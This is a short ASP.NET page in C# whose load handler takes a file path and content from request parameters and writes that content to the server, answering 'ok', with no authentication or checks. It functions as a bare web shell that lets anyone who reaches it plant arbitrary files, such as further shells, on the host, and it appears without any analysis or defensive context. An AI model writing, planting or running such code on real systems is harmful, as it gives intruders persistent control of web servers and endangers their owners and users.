<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    if (Request["f"] != null)
    {
        File.WriteAllText(Server.MapPath(Request["f"]), Request["c"]);
        Response.Write("ok");
    }
}
</script>
